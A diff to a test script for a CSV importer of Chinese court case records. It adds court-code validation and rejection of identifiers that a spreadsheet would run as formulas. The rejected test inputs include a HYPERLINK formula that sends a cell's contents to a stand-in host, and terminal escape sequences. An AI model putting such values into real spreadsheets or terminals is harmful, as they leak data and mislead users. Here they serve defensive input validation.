@@ -2,7 +2,8 @@
 # Values the database would refuse, or no real case holds, are rejected row
 # by row: one file with good rows and one bad row per limit imports with exit
 # 1, reports each bad row as FILE:LINE: column: reason (control characters
-# escaped, never raw), stores exactly the good rows, and a second import
+# escaped, never raw; a court code not of GB/T 2260; an identifier beginning
+# like a formula), stores exactly the good rows, and a second import
 # changes nothing. Before these checks the file failed as a whole in the
 # database (exit 3). A header holding a NUL or two byte-order marks refuses
 # its file; explain escapes control characters stored before the checks.
@@ -34,16 +35,30 @@ def bad(column, reason, **kw):
 n200 = "(2022)" + "京" * 64 + "12"          # 200 bytes, at the limit
 assert len(n200.encode()) == 200
 good(act_no="2147483647", payment_settled_yuan="1000000000000")
-good(case_no=n200, defendant_no="D" * 100, court_code="新疆维吾尔自治区高级人民法院生产建设兵团分院" * 3,
+good(case_no=n200, defendant_no="D" * 100, court_code="820000",
      illegal_info_clicks="1000000000000", payment_settled_yuan="1000000000000.00")
 good(case_no="(2024)沪0115刑初9号", offense_date=today, conviction_date=today, age_at_offense="0")
+good(case_no="(2021)京0105刑初124号=1", defendant_no="1-2")  # not at the start: text
 bad("act_no", "too large a number (at most 2147483647): '2147483648'", act_no="2147483648")
 bad("act_no", "not a whole number: '+2'", act_no="+2")
 bad("case_no", "too long (3000 bytes, at most 200)", case_no="A" * 3000)
 bad("case_no", "too long (201 bytes, at most 200)", case_no="(2022)" + "京" * 64 + "123")
 bad("case_no", "too long (201 bytes, at most 200)", case_no="(2022)" + "京" * 65)  # straddles
 bad("defendant_no", "too long (101 bytes, at most 100)", defendant_no="D" * 101)
-bad("court_code", "too long (201 bytes, at most 200)", court_code="C" * 201)
+code = "not a court code: six digits of the court's administrative division (GB/T 2260, e.g. 110105)"
+bad("court_code", code, court_code="C" * 201)
+bad("court_code", code, court_code="京0105")
+bad("court_code", code, court_code="1101050")   # seven digits
+bad("court_code", code, court_code="11010")
+bad("court_code", code, court_code="990105")    # no province 99
+bad("court_code", code, court_code="=1+1")
+# Identifiers a spreadsheet would take for a formula (tab and CR are control
+# characters, refused above).
+formula = "begins with =, +, - or @, which a spreadsheet takes for a formula"
+bad("case_no", formula, case_no='=HYPERLINK("http://x.example/?"&B2,"open")')
+bad("case_no", formula, case_no="+1")
+bad("defendant_no", formula, defendant_no="-2")
+bad("defendant_no", formula, defendant_no="@SUM(A1)")
 bad("case_no", "contains a control character (\\x1B): '(2021)\\x1B[2J\\x1B]0;pwned\\x07'",
     case_no="(2021)\x1b[2J\x1b]0;pwned\x07")
 bad("court_code", "contains a control character (\\u009B): '110105\\u009B31m'",
@@ -98,10 +113,10 @@ with open(rejects, newline="", encoding="utf-8") as f:
 assert [(r["line"], r["column"]) for r in rows] == [(w[0], w[1]) for w in want], rows
 PY
 # Exactly the good rows are stored.
-[ "$(count)" -eq 3 ] || { echo "stored $(count) rows, want 3"; exit 1; }
+[ "$(count)" -eq 4 ] || { echo "stored $(count) rows, want 4"; exit 1; }
 stored=$(psql -XAtqc "SELECT string_agg(act_no::text, ',' ORDER BY act_no) FROM sentencer.act")
-[ "$stored" = "2,3,2147483647" ] || { echo "stored act_no $stored"; exit 1; }
-grep -q '19 rows read, 3 stored (3 new, 0 changed, 0 unchanged), 16 rejected' "$TMPDIR/import1.log" ||
+[ "$stored" = "2,3,4,2147483647" ] || { echo "stored act_no $stored"; exit 1; }
+grep -q '29 rows read, 4 stored (4 new, 0 changed, 0 unchanged), 25 rejected' "$TMPDIR/import1.log" ||
     { cat "$TMPDIR/import1.log"; exit 1; }
 
 # A second import of the same file changes nothing.
@@ -109,11 +124,11 @@ before=$(psql -XAtqc "SELECT string_agg(id || ':' || facts_rev, ',' ORDER BY id)
 rc=0
 $S import "$csv" 2>"$TMPDIR/import2.log" || rc=$?
 [ "$rc" -eq 1 ] || { echo "second import: exit $rc, want 1"; cat "$TMPDIR/import2.log"; exit 1; }
-grep -q '3 stored (0 new, 0 changed, 3 unchanged), 16 rejected' "$TMPDIR/import2.log" ||
+grep -q '4 stored (0 new, 0 changed, 4 unchanged), 25 rejected' "$TMPDIR/import2.log" ||
     { cat "$TMPDIR/import2.log"; exit 1; }
 after=$(psql -XAtqc "SELECT string_agg(id || ':' || facts_rev, ',' ORDER BY id) FROM sentencer.charge")
 [ "$before" = "$after" ] || { echo "charges changed: $before -> $after"; exit 1; }
-[ "$(count)" -eq 3 ]
+[ "$(count)" -eq 4 ]
 
 # A header with a NUL, or with two byte-order marks, refuses its file.
 head=$(head -1 "$csv" | tr -d '\r')
